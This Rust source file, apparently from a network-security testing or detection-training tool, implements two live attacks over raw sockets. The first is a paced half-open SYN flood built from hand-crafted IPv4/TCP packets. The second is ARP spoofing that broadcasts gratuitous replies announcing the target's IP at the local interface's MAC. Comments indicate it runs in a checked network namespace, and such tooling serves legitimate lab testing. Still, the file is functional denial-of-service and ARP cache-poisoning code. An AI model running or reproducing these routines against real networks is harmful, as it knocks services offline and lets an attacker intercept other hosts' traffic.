//! The live scenarios that need raw frames: a half-open SYN flood (IPv4 packets with our own
//! TCP headers, so that no handshake is ever completed) and ARP spoofing (Ethernet frames).
//! The frames come from the same pure builders as the captures' (`traffic::packet`). Callers
//! have checked the network namespace (`namespace`); the kernel still asks for CAP_NET_RAW.

use std::io;
use std::net::{IpAddr, Ipv4Addr, SocketAddr, UdpSocket};

use anyhow::{Context, Result, bail};
use rand::rngs::ChaCha8Rng;
use rand::{RngExt, SeedableRng};

use super::pacer::Pacer;
use super::{AttackReport, LiveAttack};
use crate::traffic::packet::Endpoint;
use crate::traffic::packet::{ArpOp, BROADCAST_MAC, TcpFlags, arp_frame, ipv4_tcp_packet};

fn ipv4_target(attack: &LiveAttack, target: IpAddr) -> Result<Ipv4Addr> {
    match target {
        IpAddr::V4(ip) => Ok(ip),
        IpAddr::V6(ip) => bail!("{} needs an IPv4 target, not {ip}", attack.scenario),
    }
}

/// The local address the kernel would use to reach `target` (a connected UDP socket sends
/// nothing, it only picks the route).
fn source_for(target: Ipv4Addr) -> Result<Ipv4Addr> {
    let probe = UdpSocket::bind("0.0.0.0:0")?;
    probe.connect(SocketAddr::new(IpAddr::V4(target), 9))?;
    match probe.local_addr()?.ip() {
        IpAddr::V4(ip) => Ok(ip),
        IpAddr::V6(ip) => bail!("no IPv4 route to {target} (got {ip})"),
    }
}

/// A socket from `libc::socket`, closed on drop.
struct RawSocket(libc::c_int);

impl RawSocket {
    fn open(domain: libc::c_int, kind: libc::c_int, protocol: libc::c_int) -> io::Result<Self> {
        // SAFETY: plain system call; the descriptor is owned by the returned value.
        let fd = unsafe { libc::socket(domain, kind | libc::SOCK_CLOEXEC, protocol) };
        if fd < 0 { Err(io::Error::last_os_error()) } else { Ok(Self(fd)) }
    }
}

impl Drop for RawSocket {
    fn drop(&mut self) {
        // SAFETY: the descriptor is ours and closed once.
        unsafe { libc::close(self.0) };
    }
}

fn check(sent: isize) -> io::Result<()> {
    if sent < 0 { Err(io::Error::last_os_error()) } else { Ok(()) }
}

/// SYNs from random source ports to the target's port, at the pace; the kernel answers the
/// target's SYN-ACKs with resets, since no socket of ours owns those ports.
pub async fn syn_flood(
    attack: &LiveAttack,
    target: IpAddr,
    pacer: &mut Pacer,
    report: &mut AttackReport,
) -> Result<()> {
    let target = ipv4_target(attack, target)?;
    let source = source_for(target)?;
    // IPPROTO_RAW: we write the IPv4 header ourselves (IP_HDRINCL is implied).
    let socket = RawSocket::open(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW)
        .context("opening a raw IPv4 socket (needs CAP_NET_RAW)")?;
    let address = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: 0,
        sin_addr: libc::in_addr { s_addr: u32::from(target).to_be() },
        sin_zero: [0; 8],
    };
    let mut rng = ChaCha8Rng::seed_from_u64(u64::from(u32::from(target)));
    let to = Endpoint { mac: [0; 6], ip: target.octets(), port: attack.ports.first };
    while pacer.next().await {
        let from = Endpoint { mac: [0; 6], ip: source.octets(), port: rng.random_range(1024..32_768) };
        let packet = ipv4_tcp_packet(from, to, rng.random(), report.operations as u16, TcpFlags::SYN);
        // SAFETY: the buffer and the address outlive the call; lengths are theirs.
        let sent = unsafe {
            libc::sendto(
                socket.0,
                packet.as_ptr().cast(),
                packet.len(),
                0,
                (&raw const address).cast(),
                size_of::<libc::sockaddr_in>() as libc::socklen_t,
            )
        };
        check(sent).context("sending a SYN")?;
        report.operations += 1;
        report.bytes += packet.len() as u64;
    }
    Ok(())
}

/// The interface whose IPv4 network holds `target`: (name, index, MAC).
fn interface_towards(target: Ipv4Addr) -> Result<(String, libc::c_int, [u8; 6])> {
    let mut list: *mut libc::ifaddrs = std::ptr::null_mut();
    // SAFETY: getifaddrs fills `list`, freed below with freeifaddrs.
    if unsafe { libc::getifaddrs(&mut list) } != 0 {
        return Err(io::Error::last_os_error()).context("listing interfaces");
    }
    let mut found = None;
    let mut cursor = list;
    while !cursor.is_null() {
        // SAFETY: `cursor` walks the list getifaddrs returned, which stays valid until freed.
        let entry = unsafe { &*cursor };
        cursor = entry.ifa_next;
        if entry.ifa_addr.is_null() || entry.ifa_netmask.is_null() {
            continue;
        }
        // SAFETY: non-null addresses whose family says they are sockaddr_in.
        let (address, mask) = unsafe {
            if i32::from((*entry.ifa_addr).sa_family) != libc::AF_INET {
                continue;
            }
            let address = &*entry.ifa_addr.cast::<libc::sockaddr_in>();
            let mask = &*entry.ifa_netmask.cast::<libc::sockaddr_in>();
            (u32::from_be(address.sin_addr.s_addr), u32::from_be(mask.sin_addr.s_addr))
        };
        if address & mask == u32::from(target) & mask {
            // SAFETY: ifa_name is a NUL-terminated string owned by the list.
            let name = unsafe { std::ffi::CStr::from_ptr(entry.ifa_name) }.to_string_lossy().into_owned();
            found = Some(name);
            break;
        }
    }
    // SAFETY: the list came from getifaddrs and is freed once.
    unsafe { libc::freeifaddrs(list) };
    let Some(name) = found else { bail!("no interface has {target} on its network") };
    let mac = hardware_address(&name)?;
    let c_name = std::ffi::CString::new(name.clone())?;
    // SAFETY: a NUL-terminated name.
    let index = unsafe { libc::if_nametoindex(c_name.as_ptr()) } as libc::c_int;
    if index == 0 {
        return Err(io::Error::last_os_error()).with_context(|| format!("index of {name}"));
    }
    Ok((name, index, mac))
}

/// An interface's MAC address, asked of the kernel (SIOCGIFHWADDR) rather than read from
/// /sys, which shows the namespace that mounted it, not necessarily ours.
fn hardware_address(name: &str) -> Result<[u8; 6]> {
    let socket = RawSocket::open(libc::AF_INET, libc::SOCK_DGRAM, 0).context("opening a socket for ioctl")?;
    // SAFETY: ifreq is plain old data; all zeroes is a valid value.
    let mut request: libc::ifreq = unsafe { std::mem::zeroed() };
    if name.len() >= request.ifr_name.len() {
        bail!("interface name {name:?} is too long");
    }
    for (slot, byte) in request.ifr_name.iter_mut().zip(name.bytes()) {
        *slot = byte as libc::c_char;
    }
    // SAFETY: the request outlives the call, and SIOCGIFHWADDR fills its hardware address.
    if unsafe { libc::ioctl(socket.0, libc::SIOCGIFHWADDR, &mut request) } != 0 {
        return Err(io::Error::last_os_error()).with_context(|| format!("reading {name}'s MAC address"));
    }
    // SAFETY: SIOCGIFHWADDR wrote the union's hardware-address member.
    let data = unsafe { request.ifr_ifru.ifru_hwaddr.sa_data };
    Ok(std::array::from_fn(|i| data[i] as u8))
}

/// Gratuitous ARP replies, broadcast on the target's network, announcing the target's IP at
/// this interface's MAC, at the pace.
pub async fn arp_spoof(
    attack: &LiveAttack,
    target: IpAddr,
    pacer: &mut Pacer,
    report: &mut AttackReport,
) -> Result<()> {
    let target = ipv4_target(attack, target)?;
    let (name, index, mac) = interface_towards(target)?;
    let socket = RawSocket::open(libc::AF_PACKET, libc::SOCK_RAW, i32::from((libc::ETH_P_ARP as u16).to_be()))
        .context("opening a packet socket (needs CAP_NET_RAW)")?;
    // SAFETY: sockaddr_ll is plain old data; all zeroes is a valid value.
    let mut address: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    address.sll_family = libc::AF_PACKET as u16;
    address.sll_protocol = (libc::ETH_P_ARP as u16).to_be();
    address.sll_ifindex = index;
    address.sll_halen = 6;
    address.sll_addr[..6].copy_from_slice(&BROADCAST_MAC);
    tracing::warn!(interface = %name, %target, "announcing the target's IP at this interface's MAC");
    let frame = arp_frame(ArpOp::Reply, BROADCAST_MAC, mac, target.octets(), mac, target.octets());
    while pacer.next().await {
        // SAFETY: the frame and the address outlive the call; lengths are theirs.
        let sent = unsafe {
            libc::sendto(
                socket.0,
                frame.as_ptr().cast(),
                frame.len(),
                0,
                (&raw const address).cast(),
                size_of::<libc::sockaddr_ll>() as libc::socklen_t,
            )
        };
        check(sent).context("sending an ARP announcement")?;
        report.operations += 1;
        report.bytes += frame.len() as u64;
    }
    Ok(())
}
